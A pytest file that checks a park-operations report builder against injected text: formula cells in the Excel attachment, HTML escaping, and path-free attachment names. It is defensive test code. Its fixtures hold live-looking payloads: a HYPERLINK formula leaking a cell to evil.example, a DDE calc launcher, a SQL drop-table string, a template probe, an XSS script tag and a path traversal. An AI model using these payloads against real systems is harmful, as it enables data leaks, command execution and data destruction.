"""Hostile text in report content: escaped in the HTML, never a formula in the Excel attachment.

Names in the report (parks, incubators, need categories) come from landed files. A cell reading
``=HYPERLINK(...)`` must reach the recipient's Excel as the text it is, never as a formula; and
HTML, Jinja or SQL in a name is shown as text.
"""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace

import openpyxl
import pytest
from support.report_content import sample_content

from parkops.report.html import render_html
from parkops.report.naming import attachment_filename
from parkops.report.workbook import FORMULA_TRIGGERS, build_workbook

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)
HOSTILE = ("'; drop table staging.registrations; --", "{{ 7*7 }}", "<script>alert(1)</script>", "../../etc/passwd")


@pytest.fixture(scope="module")
def hostile_content():
    content = sample_content("weekly")
    texts = [*FORMULAS, *HOSTILE]
    details = []
    for table in content.details:
        text_columns = (
            [index for index, value in enumerate(table.rows[0]) if isinstance(value, str)] if table.rows else []
        )
        rows = [
            tuple(
                texts[(number + index) % len(texts)] if index in text_columns else value
                for index, value in enumerate(row)
            )
            for number, row in enumerate(table.rows)
        ]
        details.append(replace(table, rows=rows, title=FORMULAS[0]))
    parks = replace(content.parks, rows=[replace(row, park_name=HOSTILE[2]) for row in content.parks.rows])
    return replace(content, details=details, parks=parks)


def test_workbook_has_no_formula_and_keeps_the_text(hostile_content) -> None:
    data = build_workbook(hostile_content)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert not re.search(r"<f[ >]", xml), f"{name} holds a formula"
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    written = {
        (sheet.title, cell.coordinate): cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS)
    }
    shown = {cell.value for cell in written.values()}
    assert {text for text in FORMULAS if not text.startswith("\r")} <= shown  # Excel itself keeps \r as _x000D_
    for (sheet, coordinate), cell in written.items():
        assert cell.data_type == "s", f"{sheet}!{coordinate} is not a text cell"
        assert cell.quotePrefix, f"{sheet}!{coordinate} would turn into a formula when edited"


def test_plain_text_cells_keep_no_quote_prefix() -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(build_workbook(sample_content("weekly"))))
    prefixed = [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.quotePrefix
    ]
    assert prefixed == []


def test_html_escapes_hostile_names(hostile_content) -> None:
    html = render_html(hostile_content, [])
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_attachment_name_has_no_path(hostile_content) -> None:
    name = attachment_filename(replace(hostile_content, zone_name="../../etc/passwd"))
    assert "/" not in name and "\\" not in name and not name.startswith(".")
